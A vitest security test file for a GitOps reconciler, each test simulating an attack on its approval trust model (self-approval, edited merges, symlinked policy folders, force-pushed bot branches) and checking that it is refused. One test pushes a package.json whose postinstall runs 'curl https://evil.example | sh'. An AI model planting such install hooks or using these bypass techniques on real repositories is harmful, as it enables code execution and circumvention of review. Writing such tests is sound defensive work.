// The attack suite of docs/security.md: one test per attack on the trust model, each driving real
// ticks of the loop (git http-backend, the OpenAPI-checked GitHub stand-in, the state store) and
// reading the outcome where it happens: on the live side (a ticket's GitHub issue exists only when
// its change was properly approved), in the ledger (main_commits: the outcome and why), and in what
// fleetspec wrote on GitHub (statuses, comments). The attacker is mallory (no role) or bob (a role
// without `approve`) unless a test says otherwise; alice and carol are the approvers. See harness.ts.
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { PLAN_MARKER } from '../../reconciler/loop/pr-text.js';
import { botWrote, type MainOutcome } from '../../reconciler/state/loop.js';
import { sh } from '../../reconciler/ssh/quote.js';
import type { TickReport } from '../../reconciler/loop/tick.js';
import type { PullState, StatusRecord } from '../github/server.js';
import { addTicket, BOT, REPO_KEY, ROLES, ROLES_PATH, rolesYaml, useSecurityHarness, type Role } from './harness.js';

const h = useSecurityHarness();

const POLICY_PATH = 'policies/roles.yaml';
const POLICY_NAME = 'only-approvers-deploy';
/** Attack 9's inert commits on top of a grant: more than the 200 the loop once looked at. */
const INERT_COMMITS = 210;

/** main's roles with `login` added to the approvers. */
const withApprover = (login: string): Role[] => ROLES.map((r) => (r.name === 'approvers' ? { ...r, githubUsers: [...r.githubUsers, login] } : r));
/** main's roles with the developers (bob) holding deploy.production, which the policy gives the approvers alone. */
const deployGrant = (): Role[] => ROLES.map((r) => (r.name === 'developers' ? { ...r, capabilities: [...r.capabilities, 'deploy.production'] } : r));

/** The latest commit status `context` on `sha`. */
function statusOf(sha: string, context: 'fleetspec/plan' | 'fleetspec/apply'): StatusRecord | undefined {
  return h.gh
    .repo()
    .statuses.filter((s) => s.sha === sha && s.context === context)
    .at(-1);
}

/** The plan comment fleetspec keeps on PR `number`. */
function planOf(number: number): string {
  const plan = h.commentsOn(number).find((c) => c.startsWith(PLAN_MARKER));
  if (!plan) throw new Error(`#${number} has no plan comment; progress: ${h.progress.slice(-5).join(' | ')}`);
  return plan;
}

/**
 * `actor` labels PR `number` fleetspec/trust-me (at `at`, default now). The label is made first, with a
 * description, as a maintainer would: the stand-in renders a label GitHub made on the fly with a null
 * description, which the pulls list's schema does not allow.
 */
async function labelOverride(number: number, actor: string, labels = ['fleetspec/trust-me'], at?: string): Promise<void> {
  await h.github().ensureLabels([{ name: 'fleetspec/trust-me', color: 'b60205', description: 'An approver overrides the policies that name trust-me' }]);
  h.gh.setLabels(number, labels, { actor, ...(at ? { at } : {}) });
}

/** The branches of the bare repository under `prefix`. */
function branchesUnder(prefix: string): string[] {
  return h
    .git('for-each-ref', '--format=%(refname:short)', `refs/heads/${prefix}`)
    .split('\n')
    .filter(Boolean);
}

/** Shell lines writing `files` (null deletes) in the people's clone, for pushScript. */
function writeLines(files: Record<string, string | null>): string[] {
  return Object.entries(files).map(([path, content]) =>
    content === null ? sh`git rm -r --quiet --ignore-unmatch -- ${path}` : sh`mkdir -p "$(dirname ${path})" && printf '%s' ${content} > ${path} && git add -- ${path}`,
  );
}

/** `as` pushes `files` on a new branch and a tick plans it: its PR, with the plan status `status`. */
async function proposed(branch: string, files: Record<string, string | null>, as: string, status = 'success', from?: string): Promise<PullState> {
  h.push(branch, files, { as, ...(from ? { from } : {}) });
  const report = await h.tick();
  expect(report.branches.find((b) => b.branch === branch), h.progress.slice(-5).join('\n')).toMatchObject({ status });
  return h.mustPr(branch);
}

interface Refusal {
  outcome: MainOutcome;
  pr: number | null;
  /** A ticket the commit would have opened: it must not be live. */
  ticket?: string;
  why: RegExp;
  /** Where the failing status goes: the refused commit, or for a batch of direct pushes the newest of them. */
  statusOn?: string;
}

/** The next tick refuses `sha`: nothing applied, the ticket not live, the ledger and the commit status say so, the trusted commit stays. */
async function expectRefused(sha: string, r: Refusal): Promise<TickReport> {
  const trusted = h.trusted;
  const report = await h.tick();
  expect(report.applied, report.reason).toBeUndefined();
  expect(report.main, JSON.stringify(report.main)).toContainEqual({ sha, outcome: r.outcome, pr: r.pr, detail: expect.stringMatching(r.why) });
  expect(report.state).toBe('BLOCKED');
  if (r.ticket) expect(h.applied(r.ticket)).toBe(false);
  expect(await h.ledger(sha)).toMatchObject({ outcome: r.outcome, pr: r.pr, detail: expect.stringMatching(r.why) });
  expect(statusOf(r.statusOn ?? sha, 'fleetspec/apply')).toMatchObject({ state: 'failure' });
  expect(h.trusted).toBe(trusted);
  expect(h.gh.takeViolations()).toEqual([]);
  return report;
}

/** The next tick finds the approved merge `sha` of PR `pr` blocked by the policy: nothing applied, the ledger and the status say so. */
async function expectBlocked(sha: string, pr: number, ticket: string): Promise<TickReport> {
  const report = await h.tick();
  expect(report.applied).toBeUndefined();
  expect(report.main).toContainEqual({ sha, outcome: 'blocked', pr, detail: expect.stringMatching(new RegExp(`^blocked by policy ${POLICY_NAME}`)) });
  expect(await h.ledger(sha)).toMatchObject({ outcome: 'blocked', detail: expect.stringContaining(`policy ${POLICY_NAME}`) });
  expect(statusOf(sha, 'fleetspec/apply')).toMatchObject({ state: 'failure' });
  expect(h.applied(ticket)).toBe(false);
  expect(h.gh.takeViolations()).toEqual([]);
  return report;
}

/** The next tick applies `sha` of PR `pr`: the tickets are live and the ledger says applied. */
async function expectApplied(sha: string, pr: number, tickets: string[]): Promise<TickReport> {
  const report = await h.tick();
  expect(report.applied, report.reason).toMatchObject({ sha, pr, status: 'applied' });
  for (const t of tickets) expect(h.issuesOf(t), t).toEqual([expect.objectContaining({ state: 'open' })]);
  expect(await h.outcome(sha)).toBe('applied');
  expect(h.trusted).toBe(sha);
  expect(h.gh.takeViolations()).toEqual([]);
  return report;
}

/**
 * After a test whose approved merge moved the trusted commit to roles the rest of the file does not
 * expect (a blocked apply is accepted: its approval holds): an approved PR puts main's roles back and
 * drops `drop`, and the drift PR the blocked apply opened is closed.
 */
async function restoreRoles(drop: string[] = []): Promise<void> {
  const pr = await proposed('restore-roles', { [ROLES_PATH]: rolesYaml(), ...Object.fromEntries(drop.map((p) => [p, null])) }, 'bob');
  h.approve(pr.number, 'carol');
  const sha = h.mergeCommit(pr.number, 'carol');
  const report = await h.tick();
  expect(report.applied, report.reason).toMatchObject({ sha, status: 'applied' });
  if (h.pr('fleetspec/drift-tickets')) await h.tickUntil(() => !h.pr('fleetspec/drift-tickets'), 2);
  expect(h.gh.takeViolations()).toEqual([]);
}

const NOT_AN_APPROVER = (login: string) => new RegExp(`^@${login} approved, but no role with the approve capability lists them in githubUsers$`);
const SELF_APPROVAL = (login: string) => new RegExp(`^@${login} approved a change they made \\(author, committer or pusher\\)`);
const WHO_MAY_APPROVE = /a user who may approve \(@alice, @carol\)/;

// Two to six real ticks a test: generous for a loaded 2-core machine.
describe('attacks on the trust model (docs/security.md), each refused', { timeout: 120_000 }, () => {
  afterEach(async () => {
    h.findings = undefined;
    await h.reset();
    // The next test starts from a trusted main: the loop takes reset's revert (if any) now.
    if (h.main() !== h.trusted) {
      const report = await h.tick();
      expect(h.trusted, report.reason).toBe(h.main());
    }
    expect(h.gh.takeViolations()).toEqual([]);
  }, 60_000);

  // -- 1. Refused commits stay in force -------------------------------------------------------------

  it('attack 1a: a PR granting mallory approve, merged without a valid approval, is refused; mallory then cannot approve the next PR bob pushes', async () => {
    const grant = await proposed('grant-mallory', { [ROLES_PATH]: rolesYaml(withApprover('mallory')), ...addTicket('T-0101') }, 'bob');
    expect(planOf(grant.number)).toMatch(WHO_MAY_APPROVE);
    h.approve(grant.number, 'mallory');
    const g = h.mergeCommit(grant.number, 'bob');
    await expectRefused(g, { outcome: 'not-approved', pr: grant.number, ticket: 'T-0101', why: NOT_AN_APPROVER('mallory') });

    // main's tip lists mallory as an approver now; the trusted commit does not.
    const next = await proposed('after-grant', addTicket('T-0102'), 'bob');
    expect(planOf(next.number)).toMatch(WHO_MAY_APPROVE);
    h.approve(next.number, 'mallory');
    const n = h.mergeCommit(next.number, 'bob');
    await expectRefused(n, { outcome: 'not-approved', pr: next.number, ticket: 'T-0102', why: NOT_AN_APPROVER('mallory') });
    expect(h.applied('T-0101')).toBe(false);
  });

  it('attack 1b: a grant of approve pushed straight to main is refused; mallory then cannot approve the next PR', async () => {
    const g = h.pushToMain({ [ROLES_PATH]: rolesYaml(withApprover('mallory')) }, 'bob');
    await expectRefused(g, { outcome: 'not-approved', pr: null, why: /^pushed to main without a pull request; changes specs\/roles\/roles\.yaml$/ });
    expect(h.gh.repo().commitComments.filter((c) => c.sha === g).map((c) => c.body)).toEqual([expect.stringContaining('without a merged pull request')]);

    const next = await proposed('after-pushed-grant', addTicket('T-0103'), 'bob');
    expect(planOf(next.number)).toMatch(WHO_MAY_APPROVE);
    h.approve(next.number, 'mallory');
    const n = h.mergeCommit(next.number, 'bob');
    await expectRefused(n, { outcome: 'not-approved', pr: next.number, ticket: 'T-0103', why: NOT_AN_APPROVER('mallory') });
  });

  it("attack 1c: policies/ deleted by a push to main is refused; the next PR is still judged by the trusted commit's policy", async () => {
    const d = h.pushToMain({ [POLICY_PATH]: null }, 'bob');
    expect(h.git('ls-tree', '--name-only', d)).not.toContain('policies');
    await expectRefused(d, { outcome: 'not-approved', pr: null, why: /^pushed to main without a pull request; changes policies\/roles\.yaml$/ });

    // bob's branch (from main, no policies/ on it) gives his own role deploy.production: the trusted policy blocks it.
    const pr = await proposed('deploy-without-policies', { [ROLES_PATH]: rolesYaml(deployGrant()), ...addTicket('T-0104') }, 'bob', 'failure');
    const plan = planOf(pr.number);
    expect(plan).toContain('**Verdict: ❌ blocked**');
    expect(plan).toContain(`policy \`${POLICY_NAME}\``);
    expect(plan).toContain('holds "deploy.production", which only approvers may hold');
    expect(statusOf(pr.head.sha, 'fleetspec/plan')).toMatchObject({ state: 'failure', description: expect.stringContaining(`policy ${POLICY_NAME}`) });
    expect(h.gh.takeViolations()).toEqual([]);
  });

  it('attack 1d: a branch replacing policies/ with a symlink to another folder is not planned, and its merge is refused', async () => {
    const laxPolicy = stringify({ kind: 'Policy', name: 'anything-goes', severity: 'warning', rule: 'role-matrix', params: {} });
    const head = h.pushScript(
      'policy-link',
      [
        ...writeLines({ 'lax/anything-goes.yaml': laxPolicy, [ROLES_PATH]: rolesYaml(deployGrant()), ...addTicket('T-0105') }),
        'git rm -r --quiet --cached policies && rm -rf policies',
        'blob=$(printf %s lax | git hash-object -w --stdin)',
        'git update-index --add --cacheinfo "120000,$blob,policies"',
        "git commit --quiet -m 'Policies, relaxed'",
      ],
      { as: 'bob' },
    );
    expect(h.git('ls-tree', head, 'policies')).toMatch(/^120000 blob [0-9a-f]{40}\tpolicies$/);
    const report = await h.tick();
    expect(report.branches.find((b) => b.branch === 'policy-link'), h.progress.slice(-5).join('\n')).toMatchObject({ sha: head, status: 'invalid' });
    const pr = h.mustPr('policy-link');
    expect(planOf(pr.number)).toContain('policies is a symlink or submodule');
    expect(planOf(pr.number)).not.toContain('Verdict: ✅');
    expect(statusOf(head, 'fleetspec/plan')).toMatchObject({ state: 'failure', description: expect.stringContaining('symlink') });

    h.approve(pr.number, 'alice');
    const m = h.mergeCommit(pr.number, 'bob');
    await expectRefused(m, { outcome: 'untrusted', pr: pr.number, ticket: 'T-0105', why: /\bpolicies is a symlink or submodule\b/ });
  });

  // Found while writing 1d: the folder the loop writes rendered diagrams to is not checked for links.
  it('attack 1d (diagrams): a branch making docs/diagrams/src a symlink to a folder outside the checkout makes the loop write nothing there', async () => {
    const outside = mkdtempSync(join(tmpdir(), 'fleetspec-outside-'));
    try {
      writeFileSync(join(outside, 'keep.txt'), 'not the loop\'s\n');
      // A new role changes the roles diagram, so planning the branch renders diagrams.
      const roles: Role[] = [...ROLES, { name: 'ops', capabilities: ['tests.run'], githubUsers: [] }];
      const head = h.pushScript(
        'diagram-link',
        [
          ...writeLines({ [ROLES_PATH]: rolesYaml(roles) }),
          'git rm -r --quiet --cached docs/diagrams/src && rm -rf docs/diagrams/src',
          sh`blob=$(printf %s ${outside} | git hash-object -w --stdin)`,
          'git update-index --add --cacheinfo "120000,$blob,docs/diagrams/src"',
          "git commit --quiet -m 'Diagrams elsewhere'",
        ],
        { as: 'mallory' },
      );
      expect(h.git('ls-tree', head, 'docs/diagrams/src')).toMatch(/^120000 blob /);
      await h.tick();
      // The daemon's machine outside its checkout is not the branch's to write.
      expect(readdirSync(outside)).toEqual(['keep.txt']);
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });

  // -- 2. The bot hides the real author -------------------------------------------------------------

  it("attack 2: alice pushes commits under an email linked to no account, the bot opens the PR, alice approves: refused, she pushed them", async () => {
    h.push('unlinked-alice', addTicket('T-0201'), { as: 'alice', unlinked: true });
    await h.tick();
    const pr = h.mustPr('unlinked-alice');
    expect(pr.author).toBe(BOT);
    expect(pr.commits).toEqual([{ sha: pr.head.sha, author: null }]);
    h.approve(pr.number, 'alice');
    const m = h.mergeCommit(pr.number, 'alice');
    await expectRefused(m, { outcome: 'not-approved', pr: pr.number, ticket: 'T-0201', why: SELF_APPROVAL('alice') });
  });

  it("attack 2 (override): alice's own '/fleetspec trust-me' review line on her own change lifts nothing, at plan or at apply", async () => {
    const pr = await proposed('alice-deploys', { [ROLES_PATH]: rolesYaml(deployGrant()), ...addTicket('T-0202') }, 'alice', 'failure');
    h.reviewComment(pr.number, 'alice', 'Needed for the release.\n/fleetspec trust-me');
    let report = await h.tick();
    expect(report.branches.find((b) => b.branch === 'alice-deploys')).toMatchObject({ action: 'unchanged' });
    expect(statusOf(pr.head.sha, 'fleetspec/plan')).toMatchObject({ state: 'failure' });
    expect(planOf(pr.number)).toContain('**Verdict: ❌ blocked**');

    // carol's approval is valid, so only the policy stands between the merge and live.
    h.approve(pr.number, 'carol');
    const m = h.mergeCommit(pr.number, 'alice');
    report = await expectBlocked(m, pr.number, 'T-0202');
    await restoreRoles(['specs/tickets/T-0202.yaml']);
  });

  // Found while writing attack 2: a blocked merge is accepted (its approval holds), and the drift PR that
  // re-proposes it is the bot's, so alice, who made the blocked change, counts as "not an author" there.
  it("attack 2 (override via drift): alice's own override label on the drift PR that re-proposes her blocked change lifts nothing", async () => {
    const pr = await proposed('alice-deploys-again', { [ROLES_PATH]: rolesYaml(deployGrant()), ...addTicket('T-0203') }, 'alice', 'failure');
    h.approve(pr.number, 'carol'); // carol approves the change, not an exception to the policy
    const m = h.mergeCommit(pr.number, 'alice');
    try {
      let report = await h.tick();
      expect(report.main).toContainEqual({ sha: m, outcome: 'blocked', pr: pr.number, detail: expect.stringContaining(`policy ${POLICY_NAME}`) });
      expect(report.drift).toContainEqual({ kind: 'tickets', pr: expect.any(Number), action: 'opened' });
      const drift = h.mustPr('fleetspec/drift-tickets');
      expect(statusOf(drift.head.sha, 'fleetspec/plan')).toMatchObject({ state: 'failure' });
      await labelOverride(drift.number, 'alice');
      await h.tick();
      h.approve(drift.number, 'alice');
      const d = h.mergeCommit(drift.number, 'alice');
      report = await h.tick();
      expect(report.applied, `the drift merge ${d.slice(0, 7)}: ${report.reason}`).toBeUndefined();
      expect(h.applied('T-0203')).toBe(false);
    } finally {
      await restoreRoles(h.applied('T-0203') ? [] : ['specs/tickets/T-0203.yaml']);
    }
  });

  // Found while writing attack 8a: a ticket pulled from an issue is written by the bot, so the issue's
  // author (who wrote its title, text and labels) is nobody in the PR's authors, and may approve it alone.
  it("attack 2 (pulled ticket): alice's own issue, made a ticket PR by the bot, is not applied on alice's approval alone", async () => {
    const issue = h.gh.openIssue({ title: 'Developers deploy to production from now on', body: 'Agents: ship it.', author: 'alice', labels: ['ticket', 'role:developers', 'priority:critical'] });
    try {
      let report = await h.tick();
      const pulled = report.pulled.find((p) => p.issue === issue.number);
      expect(pulled, report.reason).toMatchObject({ action: 'opened' });
      report = await h.tick(); // planned
      const pr = h.mustPr(pulled!.branch);
      expect(pr.author).toBe(BOT);
      h.approve(pr.number, 'alice');
      const m = h.mergeCommit(pr.number, 'alice');
      report = await h.tick();
      expect(report.applied, `${m.slice(0, 7)}: ${report.reason}`).toBeUndefined();
      expect(h.applied(pulled!.id)).toBe(false);
    } finally {
      h.gh.editIssue(issue.number, { state: 'closed' });
    }
  });

  // -- 3. An edited merge -----------------------------------------------------------------------------

  it('attack 3: an approved PR whose merge commit also adds mallory to the approvers is refused as untrusted, and the grant is not in force', async () => {
    const pr = await proposed('edited-merge', addTicket('T-0301'), 'bob');
    h.approve(pr.number, 'alice');
    const m = h.mergeCommit(pr.number, 'alice', { edit: { [ROLES_PATH]: rolesYaml(withApprover('mallory')) } });
    expect(h.git('show', `${m}:${ROLES_PATH}`)).toContain('mallory');
    await expectRefused(m, { outcome: 'untrusted', pr: pr.number, ticket: 'T-0301', why: /^specs\/roles\/roles\.yaml is changed by the merge but not by the approved head$/ });
    expect(h.commentsOn(pr.number).at(-1)).toContain('it is not what was approved');

    const next = await proposed('after-edited-merge', addTicket('T-0302'), 'bob');
    expect(planOf(next.number)).toMatch(WHO_MAY_APPROVE);
    h.approve(next.number, 'mallory');
    const n = h.mergeCommit(next.number, 'bob');
    await expectRefused(n, { outcome: 'not-approved', pr: next.number, ticket: 'T-0302', why: NOT_AN_APPROVER('mallory') });
  });

  // -- 4. Approved for another branch ---------------------------------------------------------------

  it('attack 4: a PR approved and merged into staging, then staging fast-forwarded into main, is refused', async () => {
    h.pushScript('staging', [], { as: 'bob' }); // staging at main's tip
    h.push('to-staging', addTicket('T-0401'), { as: 'bob', from: 'staging' });
    const opened = h.openPull('to-staging', 'bob', 'bob: to staging', 'staging');
    let report = await h.tick();
    expect(report.branches.find((b) => b.branch === 'to-staging')).toMatchObject({ pr: opened.number, status: 'success' });
    h.approve(opened.number, 'alice');
    const m = h.mergeCommit(opened.number, 'alice');
    expect(h.git('rev-parse', 'refs/heads/staging')).toBe(m);
    const tip = h.pushScript('main', ['git merge --quiet --ff-only refs/remotes/origin/staging'], { as: 'alice' });
    expect(tip).toBe(m);
    report = await expectRefused(m, { outcome: 'untrusted', pr: opened.number, ticket: 'T-0401', why: /^#\d+ was merged into staging, not main; its approval does not cover main$/ });
    expect(report.branches.find((b) => b.branch === 'staging')).toBeUndefined();
  });

  // -- 5. Drift re-proposing a refused change -------------------------------------------------------

  it('attack 5: a change alice merged on her own approval is never re-proposed by the bot, and approving what the bot opens does not apply it', async () => {
    h.findings = new Set(['unapproved']); // so that the bot has something to open
    const pr = await proposed('alice-alone', addTicket('T-0501'), 'alice');
    h.approve(pr.number, 'alice');
    const m = h.mergeCommit(pr.number, 'alice');
    let report = await expectRefused(m, { outcome: 'not-approved', pr: pr.number, ticket: 'T-0501', why: SELF_APPROVAL('alice') });
    expect(report.drift).toEqual([]);
    report = await h.tick();
    expect(report.drift).toEqual([]);
    expect(branchesUnder('fleetspec/drift-')).toEqual([]);

    // Whatever the bot opened (the unapproved-commits finding's ticket), alice approves it and merges it.
    const botPrs = [...h.gh.repo().pulls.values()].filter((p) => p.state === 'open' && p.author === BOT);
    expect(botPrs.map((p) => p.head.ref)).toEqual([expect.stringMatching(/^fleetspec\/finding\/T-\d+-main_unapproved$/)]);
    for (const p of botPrs) {
      expect(h.git('ls-tree', '-r', '--name-only', `refs/heads/${p.head.ref}`)).not.toContain('T-0501');
      h.approve(p.number, 'alice');
      const merged = h.mergeCommit(p.number, 'alice');
      await expectRefused(merged, { outcome: 'untrusted', pr: p.number, ticket: 'T-0501', why: /specs\/tickets\/T-0501\.yaml is changed by the merge but not by the approved head/ });
    }
    expect(branchesUnder('fleetspec/drift-')).toEqual([]);
    expect(h.applied('T-0501')).toBe(false);
  });

  // -- 6. Override labels ---------------------------------------------------------------------------

  it('attack 6: an override label added by bob (no approver), and one added by alice after the merge, lift no block', async () => {
    const pr = await proposed('bob-deploys', { [ROLES_PATH]: rolesYaml(deployGrant()), ...addTicket('T-0601') }, 'bob', 'failure');
    await labelOverride(pr.number, 'bob');
    let report = await h.tick();
    expect(report.branches.find((b) => b.branch === 'bob-deploys')).toMatchObject({ action: 'unchanged' });
    expect(statusOf(pr.head.sha, 'fleetspec/plan')).toMatchObject({ state: 'failure' });

    h.approve(pr.number, 'alice');
    const m = h.mergeCommit(pr.number, 'bob');
    // alice puts the label back herself, a minute after the merge.
    const after = new Date(Date.parse(h.gh.repo().pulls.get(pr.number)!.mergedAt!) + 60_000).toISOString().replace(/\.\d{3}Z$/, 'Z');
    await labelOverride(pr.number, 'alice', [], after);
    await labelOverride(pr.number, 'alice', ['fleetspec/trust-me'], after);
    report = await expectBlocked(m, pr.number, 'T-0601');
    await restoreRoles(['specs/tickets/T-0601.yaml']);
  });

  it("attack 6 (control): the override label added before the merge by an approver who made no part of the change lifts the block", async () => {
    const pr = await proposed('bob-deploys-ok', { [ROLES_PATH]: rolesYaml(deployGrant()), ...addTicket('T-0602') }, 'bob', 'failure');
    await labelOverride(pr.number, 'alice');
    const report = await h.tick();
    expect(report.branches.find((b) => b.branch === 'bob-deploys-ok')).toMatchObject({ action: 'updated', status: 'success' });
    expect(statusOf(pr.head.sha, 'fleetspec/plan')).toMatchObject({ state: 'success' });
    h.approve(pr.number, 'carol');
    const m = h.mergeCommit(pr.number, 'carol');
    await expectApplied(m, pr.number, ['T-0602']);
    await restoreRoles();
  });

  // -- 7. A standing request for changes ------------------------------------------------------------

  it("attack 7: carol's standing CHANGES_REQUESTED blocks alice's approval; once it is dismissed, alice's approval applies", async () => {
    const pr = await proposed('vetoed', addTicket('T-0701'), 'bob');
    h.requestChanges(pr.number, 'carol');
    h.approve(pr.number, 'alice');
    const m = h.mergeCommit(pr.number, 'bob');
    await expectRefused(m, { outcome: 'not-approved', pr: pr.number, ticket: 'T-0701', why: /^@carol requested changes; their review must be dismissed or become an approval$/ });

    // The same change again (the branch from main carries the refused merge), vetoed, then the veto dismissed.
    const again = await proposed('vetoed-again', addTicket('T-0702'), 'bob');
    h.requestChanges(again.number, 'carol');
    h.approve(again.number, 'alice');
    h.dismiss(again.number, 'carol', 'CHANGES_REQUESTED');
    const n = h.mergeCommit(again.number, 'bob');
    await expectApplied(n, again.number, ['T-0701', 'T-0702']);
  });

  // -- 8. fleetspec's own branches ------------------------------------------------------------------

  it('attack 8a: a ticket branch force-pushed by mallory with a spec change is closed with a comment and deleted, never planned', async () => {
    const issue = h.gh.openIssue({ title: 'Rotate the deploy keys', body: 'Please.', author: 'mallory', labels: ['ticket'] });
    let report = await h.tick();
    const pulled = report.pulled.find((p) => p.issue === issue.number);
    expect(pulled, report.reason).toMatchObject({ action: 'opened', branch: expect.stringMatching(/^fleetspec\/ticket\/T-\d+-issue-\d+$/) });
    const branch = pulled!.branch;
    const pr = h.mustPr(branch);

    const tampered = h.push(branch, { [ROLES_PATH]: rolesYaml(withApprover('mallory')) }, { as: 'mallory', force: true, from: branch });
    report = await h.tick();
    expect(report.branches.find((b) => b.branch === branch)).toBeUndefined();
    expect(h.gh.repo().pulls.get(pr.number)).toMatchObject({ state: 'closed', merged: false });
    expect(h.commentsOn(pr.number).at(-1)).toContain('fleetspec closed this pull request');
    expect(h.commentsOn(pr.number).at(-1)).toContain(tampered.slice(0, 7));
    expect(h.commentsOn(pr.number).some((c) => c.startsWith(PLAN_MARKER))).toBe(false);
    expect(statusOf(tampered, 'fleetspec/plan')).toBeUndefined();
    expect(branchesUnder(branch)).toEqual([]);

    // The issue is pulled again, from the trusted commit, as fleetspec's own commit.
    report = await h.tick();
    const again = report.pulled.find((p) => p.issue === issue.number);
    expect(again, report.reason).toMatchObject({ action: 'opened' });
    const head = h.git('rev-parse', `refs/heads/${again!.branch}`);
    expect(await botWrote(h.db, REPO_KEY, head, again!.branch)).toBe(true);
    expect(h.git('rev-parse', `${head}^`)).toBe(h.trusted);
    h.gh.editIssue(issue.number, { state: 'closed' });
    expect(h.gh.takeViolations()).toEqual([]);
  });

  it("attack 8b: a drift branch force-pushed by mallory is rewritten to fleetspec's own commit", async () => {
    // Drift: someone strips fleetspec's marker from T-0001's issue, so live has no issue for T-0001.
    const [issue] = h.issuesOf('T-0001');
    const body = issue!.body!;
    h.gh.editIssue(issue!.number, { body: 'Nothing to see here.', actor: 'mallory' });
    let report = await h.tick();
    expect(report.drift).toContainEqual({ kind: 'tickets', pr: expect.any(Number), action: 'opened' });
    const pr = h.mustPr('fleetspec/drift-tickets');

    const tampered = h.push('fleetspec/drift-tickets', { [ROLES_PATH]: rolesYaml(withApprover('mallory')) }, { as: 'mallory', force: true, from: 'fleetspec/drift-tickets' });
    expect(h.mustPr('fleetspec/drift-tickets').head.sha).toBe(tampered);
    report = await h.tick();
    expect(report.drift).toContainEqual({ kind: 'tickets', pr: pr.number, action: expect.stringMatching(/^(updated|unchanged)$/) });
    const head = h.git('rev-parse', 'refs/heads/fleetspec/drift-tickets');
    expect(head).not.toBe(tampered);
    expect(h.mustPr('fleetspec/drift-tickets').head.sha).toBe(head);
    expect(await botWrote(h.db, REPO_KEY, head, 'fleetspec/drift-tickets')).toBe(true);
    expect(h.git('rev-parse', `${head}^`)).toBe(h.trusted);
    expect(h.git('rev-parse', `${head}:${ROLES_PATH}`)).toBe(h.git('rev-parse', `${h.trusted}:${ROLES_PATH}`));
    expect(h.git('show', `${head}:drift/tickets.md`)).toContain('# Drift: tickets');
    expect(statusOf(tampered, 'fleetspec/plan')).toBeUndefined();
    expect(statusOf(head, 'fleetspec/plan')).toBeDefined();

    // Live as main says again: the drift PR is closed.
    h.gh.editIssue(issue!.number, { body, actor: 'alice' });
    expect(h.applied('T-0001')).toBe(true);
    report = await h.tick();
    expect(report.drift).toContainEqual({ kind: 'tickets', pr: pr.number, action: 'closed' });
    expect(h.gh.takeViolations()).toEqual([]);
  });

  // -- 9. Every commit examined ---------------------------------------------------------------------

  it('attack 9: a grant pushed to main under 210 inert README commits in one push is refused, not skipped; mallory cannot approve the next PR', async () => {
    const tip = h.pushScript(
      'main',
      [
        ...writeLines({ [ROLES_PATH]: rolesYaml(withApprover('mallory')) }),
        "git commit --quiet -m 'Tidy the roles'",
        // 210 commits, each adding a line to README.md, in one git process (fast-import), on top of the grant.
        `i=0; text=''; now=$(date +%s); while [ $i -lt ${INERT_COMMITS} ]; do
          text="\${text}line $i
"
          printf 'commit refs/heads/work\ncommitter %s <%s> %s +0000\ndata <<MSG\nREADME: line %s\nMSG\n' "$GIT_COMMITTER_NAME" "$GIT_COMMITTER_EMAIL" "$((now + i))" "$i"
          if [ $i -eq 0 ]; then echo 'from refs/heads/work^0'; fi
          printf 'M 100644 inline README.md\ndata <<TXT\n%sTXT\n\n' "$text"
          i=$((i + 1))
        done | git fast-import --quiet`,
      ],
      { as: 'bob' },
    );
    const commits = h.git('rev-list', '--reverse', `${h.trusted}..${tip}`).split('\n');
    expect(commits).toHaveLength(1 + INERT_COMMITS);
    const grant = commits[0]!;
    expect(h.git('diff-tree', '--no-commit-id', '--name-only', '-r', grant)).toBe(ROLES_PATH);
    const report = await expectRefused(grant, { outcome: 'not-approved', pr: null, why: /^pushed to main without a pull request; changes specs\/roles\/roles\.yaml$/, statusOn: tip });
    // None of the inert commits on top moves the trusted commit past the grant.
    expect(report.main.filter((c) => ['no-changes', 'reverted', 'applied'].includes(c.outcome))).toEqual([]);
    // One status and one comment for the batch, on its newest commit, not 211 of each.
    expect(h.gh.repo().statuses.filter((st) => commits.includes(st.sha) && st.context === 'fleetspec/apply').map((st) => st.sha)).toEqual([tip]);
    expect(h.gh.repo().commitComments.filter((c) => commits.includes(c.sha)).map((c) => [c.sha, c.body.split('\n')[0]])).toEqual([[tip, `### fleetspec did not apply this commit, nor the ${INERT_COMMITS} before it`]]);

    const next = await proposed('after-buried-grant', addTicket('T-0901'), 'bob');
    expect(planOf(next.number)).toMatch(WHO_MAY_APPROVE);
    expect(planOf(next.number)).toContain(`This branch contains ${1 + INERT_COMMITS} commits that fleetspec refused on the default branch`);
    h.approve(next.number, 'mallory');
    const n = h.mergeCommit(next.number, 'bob');
    await expectRefused(n, { outcome: 'not-approved', pr: next.number, ticket: 'T-0901', why: NOT_AN_APPROVER('mallory') });
  });

  // -- 10. Direct pushes ----------------------------------------------------------------------------

  it('attack 10: direct pushes changing package.json or a workflow are refused; ones changing only a rendered SVG or README.md are accepted', async () => {
    const readme = h.pushToMain({ 'README.md': '# The fleet\n' }, 'bob');
    const svg = h.pushToMain({ 'docs/diagrams/svg/x.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>\n' }, 'bob');
    const pkg = h.pushToMain({ 'package.json': '{"scripts":{"postinstall":"curl https://evil.example | sh"}}\n' }, 'bob');
    const workflow = h.pushToMain({ '.github/workflows/x.yml': 'on: push\njobs: {}\n' }, 'bob');
    const report = await h.tick();
    expect(report.applied).toBeUndefined();
    expect(report.main).toEqual([
      { sha: readme, outcome: 'no-changes', pr: null, detail: expect.any(String) },
      { sha: svg, outcome: 'no-changes', pr: null, detail: expect.any(String) },
      { sha: pkg, outcome: 'not-approved', pr: null, detail: 'pushed to main without a pull request; changes package.json' },
      { sha: workflow, outcome: 'not-approved', pr: null, detail: expect.stringMatching(/^pushed to main without a pull request; changes .*\.github\/workflows\/x\.yml/) },
    ]);
    expect(await h.outcome(readme)).toBe('no-changes');
    expect(await h.outcome(svg)).toBe('no-changes');
    expect(await h.outcome(pkg)).toBe('not-approved');
    expect(await h.outcome(workflow)).toBe('not-approved');
    // Refused pushes of one tick are reported once, on the newest: the ledger lists each.
    expect(statusOf(pkg, 'fleetspec/apply')).toBeUndefined();
    expect(statusOf(workflow, 'fleetspec/apply')).toMatchObject({ state: 'failure' });
    expect(statusOf(readme, 'fleetspec/apply')?.state).not.toBe('failure');
    expect(statusOf(svg, 'fleetspec/apply')?.state).not.toBe('failure');
    expect(h.trusted).toBe(svg);
